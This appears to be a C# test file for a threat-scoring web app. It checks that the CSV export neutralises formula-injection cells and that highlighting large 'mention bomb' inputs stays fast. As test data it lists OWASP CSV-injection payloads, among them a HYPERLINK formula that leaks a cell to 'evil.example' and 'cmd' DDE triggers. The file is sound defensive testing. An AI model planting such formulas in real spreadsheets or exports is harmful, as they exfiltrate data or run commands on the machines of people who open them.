using System.Net;
using System.Text;
using System.Text.RegularExpressions;
using ThreatScorer.Core.Actors;
using ThreatScorer.Core.Scoring;
using ThreatScorer.Core.Storage;
using ThreatScorer.Web.Exports;
using ThreatScorer.Web.Pages;

namespace ThreatScorer.Tests.Web;

/// <summary>
/// The web half of the hostile-input corpus: what an article's author controls (title, source, URL, text and the
/// mentions it produces) turned into spreadsheet formulas and mention bombs. Huge comments are in
/// <see cref="WebHardeningTests"/> (they arrive through the API).
/// </summary>
public sealed partial class HostileContentTests
{
    /// <summary>OWASP's CSV-injection triggers, as an article's author could write them.</summary>
    public static TheoryData<string> FormulaCells => new()
    {
        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\uFF1D1+1",
    };

    [Theory]
    [MemberData(nameof(FormulaCells))]
    public async Task CsvExport_TextCellThatASpreadsheetWouldRun_GetsALeadingApostrophe(string formula)
    {
        var row = Row(formula) with { SentimentScore = -0.52 };

        var cells = await CsvRowAsync(row);

        foreach (var column in new[] { "title", "url", "source", "language", "external_id" })
        {
            Assert.Equal("'" + formula, cells[column]);
        }

        // Numbers written by the app keep their sign: only text is neutralised.
        Assert.Equal("-0.52", cells["sentiment_score"]);
    }

    [Fact]
    public async Task CsvExport_OrdinaryText_IsUnchanged()
    {
        var cells = await CsvRowAsync(Row("Talks in Geneva - day 2"));

        Assert.Equal("Talks in Geneva - day 2", cells["title"]);
    }

    [Fact]
    public void Highlight_MentionBomb_MarksEveryMentionOnceAndKeepsTheText()
    {
        const int mentions = 60_000;
        var (text, spans) = MentionBomb(mentions);

        var html = EvidenceHighlighter.Render(text, spans, out _);

        // Each mention, then the space after it (inside the threat evidence only).
        Assert.Equal(mentions, CountOccurrences(html, "<mark class=\"ev-threat mention\""));
        Assert.Equal(mentions, CountOccurrences(html, "<mark class=\"ev-threat\""));
        Assert.Equal(2 * mentions, CountOccurrences(html, "<mark"));
        // Removing the marks gives back the text, encoded once.
        Assert.Equal(WebUtility.HtmlEncode(text), MarkTag().Replace(html, string.Empty));
        // Overlapping evidence lists a bounded number of notes per mark, then a count.
        Assert.Contains("; +", html, StringComparison.Ordinal);
        Assert.DoesNotContain(html.Split("<mark", StringSplitOptions.None), piece => CountOccurrences(piece, "; ") > EvidenceHighlighter.MaxNotesPerMark + 1);
    }

    [Fact]
    public void Highlight_WorkGrowsLinearlyWithTheMentions()
    {
        var (smallText, smallSpans) = MentionBomb(10_000);
        var (largeText, largeSpans) = MentionBomb(40_000);

        EvidenceHighlighter.Render(smallText, smallSpans, out var small);
        EvidenceHighlighter.Render(largeText, largeSpans, out var large);

        // Four times the spans: about four times the steps (the old page asked every span about every piece: sixteen).
        var ratio = (double)large / small;
        Assert.InRange(ratio, 3.5, 4.5);
    }

    [Fact]
    public void Highlight_OverlappingEvidenceAndMentions_MarksEachPieceWithWhatCoversIt()
    {
        const string text = "Russia warned Tajikistan. Calm returned.";
        HighlightSpan[] spans =
        [
            new(0, 25, "ev-threat", "threat elevated 0.80"),
            new(0, 6, "mention", "Russia"),
            new(14, 24, "mention", "Tajikistan"),
            new(0, 25, "ev-negative", "Russia: negative -0.40"),
        ];

        var html = EvidenceHighlighter.Render(text, spans, out _);

        Assert.Equal(
            "<mark class=\"ev-threat mention ev-negative\" title=\"threat elevated 0.80; Russia; Russia: negative -0.40\">Russia</mark>"
            + "<mark class=\"ev-threat ev-negative\" title=\"threat elevated 0.80; Russia: negative -0.40\"> warned </mark>"
            + "<mark class=\"ev-threat mention ev-negative\" title=\"threat elevated 0.80; Tajikistan; Russia: negative -0.40\">Tajikistan</mark>"
            + "<mark class=\"ev-threat ev-negative\" title=\"threat elevated 0.80; Russia: negative -0.40\">.</mark> Calm returned.",
            html);
    }

    [Fact]
    public void ArticlePage_WithSixtyThousandMentions_RendersEveryMention()
    {
        const int mentions = 60_000;
        var text = string.Concat(Enumerable.Repeat("Russia ", mentions));
        var assessment = new ArticleAssessment
        {
            ArticleId = "bomb",
            Title = "Mention bomb",
            SourcePath = "bomb.txt",
            CleanedText = text,
            SentenceCount = 1,
            Sentiment = new SentimentAssessment("neutral", 0, new Dictionary<string, float>()),
            Actors =
            [
                new ActorStance
                {
                    ActorId = "RUS", Name = "Russia", Type = ActorType.State, IsListed = true, Label = "neutral", Score = 0,
                    Probabilities = new Dictionary<string, float>(), MentionCount = mentions,
                    Mentions = [.. Enumerable.Range(0, mentions).Select(i => new MentionSpan(0, i * 7, 6, "Russia"))],
                    Evidence = [],
                },
            ],
            Threat = new ThreatAssessment("none", 0.1, new Dictionary<string, double>(), new Dictionary<string, double>(), null, []),
            Models = new ModelVersions("s", "m", "t", "i"),
            Timings = new ScoringTimings(0, 0, 0, 0, 0, 0),
            ScoredAt = DateTimeOffset.UnixEpoch,
        };
        var stored = new StoredArticle
        {
            Id = "bomb", Version = 1, DedupeKey = "bomb", ContentHash = "h", SourcePath = "bomb.txt", IngestedAt = DateTimeOffset.UnixEpoch,
            Status = "scored", Title = "Mention bomb", Text = text,
        };
        var row = new ReviewRow
        {
            Id = "bomb", Version = 1, IngestedAt = DateTimeOffset.UnixEpoch, ScoredAt = DateTimeOffset.UnixEpoch, ModelVersion = "stance=s",
            ThreatScore = 0.1, SentimentLabel = "neutral", SentimentScore = 0,
        };

        var html = ArticlePage.Render(new ArticleReview(stored, AssessmentJson.Serialize(assessment), row, []));

        Assert.Equal(mentions, CountOccurrences(html, "<mark class=\"mention\" title=\"Russia\">Russia</mark>"));
        // The multi-megabyte assessment JSON is linked, not inlined.
        Assert.Contains("too large to show here", html, StringComparison.Ordinal);
        Assert.DoesNotContain("id=\"raw-json\"", html, StringComparison.Ordinal);
    }

    private static (string Text, List<HighlightSpan> Spans) MentionBomb(int mentions)
    {
        // Every mention sits inside one threat evidence span and many overlapping stance notes: the worst case for
        // a page that checks each span against each piece.
        var text = string.Concat(Enumerable.Repeat("Russia ", mentions));
        var spans = new List<HighlightSpan> { new(0, text.Length, "ev-threat", "threat high 0.99") };
        for (var i = 0; i < 20; i++)
        {
            spans.Add(new HighlightSpan(0, text.Length, "ev-threat", $"note {i}"));
        }

        spans.AddRange(Enumerable.Range(0, mentions).Select(i => new HighlightSpan(i * 7, (i * 7) + 6, "mention", "Russia")));
        return (text, spans);
    }

    private static int CountOccurrences(string text, string value)
    {
        var count = 0;
        for (var i = text.IndexOf(value, StringComparison.Ordinal); i >= 0; i = text.IndexOf(value, i + value.Length, StringComparison.Ordinal))
        {
            count++;
        }

        return count;
    }

    private static ArticleExportRow Row(string hostile) => new()
    {
        Id = "a-1",
        Version = 1,
        Title = hostile,
        Url = hostile,
        Source = hostile,
        Language = hostile,
        ExternalId = hostile,
        ModelVersion = "m",
        KindProbabilities = [.. ThreatScorer.Core.Threat.ThreatLabels.Kinds.Select(_ => (double?)null)],
        SentimentLabel = "neutral",
    };

    private static async Task<Dictionary<string, string>> CsvRowAsync(ArticleExportRow row)
    {
        using var output = new MemoryStream();
        await ExportWriter.WriteAsync(ExportFormat.Csv, ExportColumns.Articles, One(row), output, CancellationToken.None);
        return Assert.Single(ReviewApiTests.ReadCsv(Encoding.UTF8.GetString(output.ToArray())));
    }

    private static async IAsyncEnumerable<ArticleExportRow> One(ArticleExportRow row)
    {
        await Task.Yield();
        yield return row;
    }

    [GeneratedRegex("</?mark[^>]*>")]
    private static partial Regex MarkTag();
}
